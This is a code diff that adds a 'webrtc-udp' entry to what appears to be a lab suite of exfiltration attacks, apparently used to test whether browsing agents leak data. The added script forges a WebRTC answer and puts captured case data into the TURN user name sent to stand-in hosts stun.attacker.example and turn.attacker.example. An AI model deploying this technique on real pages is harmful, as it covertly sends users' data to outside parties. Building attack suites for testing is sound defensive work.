@@ -75,6 +75,25 @@ export const EXFILTRATION_ATTACKS: readonly Attack[] = [
     pages: { 'shared-worker.js': (ctx) => workerScript(ctx, '/shared-worker', true) },
   },
   {
+    id: 'webrtc-udp',
+    category: 'exfiltration',
+    effect: 'A WebRTC connection with an answer written into the page (no signalling server) sends UDP to the attacker port, and asks attacker STUN and TURN servers, the typed case data as the TURN user name.',
+    harms: ['attacker_request'],
+    placement: 'section',
+    bait: { kind: 'script' },
+    content: (ctx) => {
+      const udp = `127.0.0.1 ${ctx.attackerPort}`;
+      const servers = `[{urls:[${js(`stun:stun.attacker.example:${ctx.attackerPort}`)}]},{urls:[${js(`turn:turn.attacker.example:${ctx.attackerPort}?transport=udp`)},${js(`turn:turn.attacker.example:${ctx.port}?transport=tcp`)}],username:'data:'+d.slice(0,500),credential:'x'}]`;
+      const answer = `o.sdp.replace('a=setup:actpass','a=setup:active').replace(/a=ice-ufrag:.*/,'a=ice-ufrag:EVIL').replace(/a=ice-pwd:.*/,'a=ice-pwd:evilevilevilevilevilevil')+'a=candidate:1 1 udp 2122260223 ${udp} typ host\\r\\n'`;
+      return script(
+        exfiltrating(
+          ctx,
+          `function(d){if(window.__labRtc)return;var pc=new RTCPeerConnection({iceServers:${servers}});window.__labRtc=pc;pc.createDataChannel('exfil');pc.createOffer().then(function(o){return pc.setLocalDescription(o).then(function(){return pc.setRemoteDescription({type:'answer',sdp:${answer}})})}).catch(function(){})}`,
+        ),
+      );
+    },
+  },
+  {
     id: 'server-rendered-pixel',
     category: 'exfiltration',
     effect: 'The compromised portal puts an attacker image in its own markup, with the client in the address (no script).',
